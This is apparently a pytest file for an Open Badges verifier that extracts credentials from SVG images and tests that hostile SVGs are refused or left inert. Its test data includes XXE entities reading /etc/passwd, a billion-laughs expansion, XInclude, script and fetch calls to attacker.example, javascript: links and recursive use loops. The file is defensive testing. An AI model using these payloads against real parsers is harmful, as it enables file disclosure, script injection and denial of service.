"""Badges baked into an SVG; what a drawing could do to its reader stays text."""

from __future__ import annotations

import gzip

import pytest

from badges.verification.inputs.given import Given, Link
from badges.verification.inputs.reading import read
from tests.factories.baking import BADGES_2, BADGES_3, CLR, cdata, document_bytes, make_document, make_svg, token_text
from tests.oracles import needs_shared, shared_path

DRAWN_BY_A_PROGRAM = (
    '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'
)


def credential(inside: str = "") -> str:
    return f"<openbadges:credential>{inside or cdata(document_bytes())}</openbadges:credential>"


def code_of(data: bytes) -> str:
    found, check = read(data, name="badge.svg")
    assert found is None
    assert check.outcome == "fail"
    return check.code


def test_a_credential_in_json_is_read() -> None:
    found, _ = read(make_svg(credential()))
    assert isinstance(found, Given)
    assert (found.document, found.container) == (make_document(), "svg")


def test_a_credential_of_the_learner_record_is_read() -> None:
    found, _ = read(make_svg(f"<clr:credential>{cdata(document_bytes())}</clr:credential>", names=CLR))
    assert isinstance(found, Given)


def test_a_token_is_read_from_its_attribute() -> None:
    found, _ = read(make_svg(f'<openbadges:credential verify="{token_text()}"/>'))
    assert isinstance(found, Given)
    assert found.token == token_text()


def test_an_older_badge_is_a_link_to_where_it_is_hosted() -> None:
    assertion = '<openbadges:assertion verify="https://issuer.example/a/1"/>'
    assert read(make_svg(assertion, names=BADGES_2))[0] == Link("https://issuer.example/a/1", container="svg")


def test_of_an_older_badge_counts_what_is_hosted_and_not_its_copy() -> None:
    copy = cdata(b'{"@context": "https://w3id.org/openbadges/v2", "type": "Assertion"}')
    assertion = f'<openbadges:assertion verify="https://issuer.example/a/1">{copy}</openbadges:assertion>'
    assert read(make_svg(assertion, names=BADGES_2))[0] == Link("https://issuer.example/a/1", container="svg")


def test_what_drawing_programs_write_at_the_top_does_no_harm() -> None:
    assert isinstance(read(make_svg(credential(), before=DRAWN_BY_A_PROGRAM))[0], Given)


DECLARING = {
    "a document type of its own": '<!DOCTYPE svg SYSTEM "https://attacker.example/x.dtd">',
    "a known type with declarations": DRAWN_BY_A_PROGRAM[:-1] + ' [<!ENTITY a "b">]>',
    "a file": '<!DOCTYPE svg [<!ENTITY f SYSTEM "file:///etc/passwd">]>',
    "a billion laughs": '<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;"><!ENTITY c "&b;&b;&b;">]>',
    "a parameter entity": '<!DOCTYPE svg [<!ENTITY % p SYSTEM "https://attacker.example/p">%p;]>',
    "a type without declarations": "<!DOCTYPE svg>",
}


@pytest.mark.parametrize("before", DECLARING.values(), ids=DECLARING.keys())
def test_a_drawing_that_declares_something_is_not_read(before: str) -> None:
    assert code_of(make_svg(credential(), before=before)) == "dtd_forbidden"


def test_a_drawing_that_includes_another_file_is_not_read() -> None:
    include = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
    assert code_of(make_svg(include + credential())) == "dtd_forbidden"


LIVELY = {
    "script": "<script>fetch('https://attacker.example')</script>",
    "handler": '<rect onload="alert(1)"/>',
    "foreign object": '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml">x</body></foreignObject>',
    "link": '<a href="javascript:alert(1)"><text>x</text></a>',
    "style": "<style>@import url(https://attacker.example/x.css);</style>",
    "picture from elsewhere": '<image href="https://attacker.example/pixel.png"/>',
    "use of another part": '<g id="a"><path d=""/></g><g id="b"><use href="#a"/><use href="#a"/><use href="#c"/></g>',
    "the same name within itself": '<g id="a"><g id="a"><path d=""/></g></g><use href="#a"/>',
}


@pytest.mark.parametrize("inside", LIVELY.values(), ids=LIVELY.keys())
def test_a_lively_drawing_is_read_and_never_played(inside: str) -> None:
    found, _ = read(make_svg(inside + credential()))
    assert isinstance(found, Given)
    assert found.document == make_document()


ENDLESS = {
    "itself": '<g id="a"><use href="#a"/></g>',
    "itself by the older name": '<g id="a"><use xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="#a"/></g>',
    "each other": '<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>',
    "what holds it, from deep within": '<g id="a"><g><g id="b"><g><use href="#a"/></g></g></g></g>',
    "a use of itself": '<use id="a" href="#a"/>',
}


@pytest.mark.parametrize("inside", ENDLESS.values(), ids=ENDLESS.keys())
def test_v65_a_drawing_that_repeats_itself_without_end_is_refused(inside: str) -> None:
    assert code_of(make_svg(inside + credential())) == "bad_image"


def test_a_long_chain_of_repetitions_that_ends_is_read() -> None:
    chain = "".join(f'<g id="p{number}"><use href="#p{number + 1}"/></g>' for number in range(20_000))
    assert isinstance(read(make_svg(chain + credential()))[0], Given)


def test_two_credentials_in_one_drawing_are_refused() -> None:
    assert code_of(make_svg(credential() + credential())) == "ambiguous_bake"


def test_a_token_and_another_credential_in_one_element_are_refused() -> None:
    both = f'<openbadges:credential verify="{token_text()}">{cdata(document_bytes())}</openbadges:credential>'
    assert code_of(make_svg(both)) == "ambiguous_bake"


def test_badges_of_two_versions_in_one_drawing_are_refused() -> None:
    older = '<ob2:assertion xmlns:ob2="http://openbadges.org" verify="https://issuer.example/a/1"/>'
    assert code_of(make_svg(older + credential())) == "ambiguous_bake"


def test_a_credential_inside_another_is_refused() -> None:
    assert code_of(make_svg(credential(credential()))) == "ambiguous_bake"


def test_an_element_of_another_namespace_is_no_badge() -> None:
    assert code_of(make_svg(credential(), names='xmlns:openbadges="https://attacker.example/"')) == "no_badge_found"


def test_a_million_elements_are_refused() -> None:
    assert code_of(make_svg("<g/>" * 1_000_000)) == "too_large"


def test_ten_thousand_levels_are_refused() -> None:
    assert code_of(make_svg("<g>" * 10_000 + "</g>" * 10_000)) == "too_large"


def test_a_compressed_drawing_is_to_be_unpacked_first() -> None:
    assert code_of(gzip.compress(make_svg(credential()))) == "compressed_file"


@pytest.mark.parametrize("data", [make_svg(credential())[:-8], b"<svg", b"<?xml version='1.0'?><not-a-drawing/>"])
def test_what_is_no_drawing_is_said_to_be_damaged(data: bytes) -> None:
    assert code_of(data) == "bad_image"


def test_a_drawing_without_a_badge_says_so() -> None:
    assert code_of(make_svg(names=BADGES_3)) == "no_badge_found"


@needs_shared
def test_the_published_drawing_is_read() -> None:
    found, _ = read(shared_path("standards/samples/ob30/simple-jwt.svg").read_bytes())
    assert isinstance(found, Given)
    assert found.jwt is not None
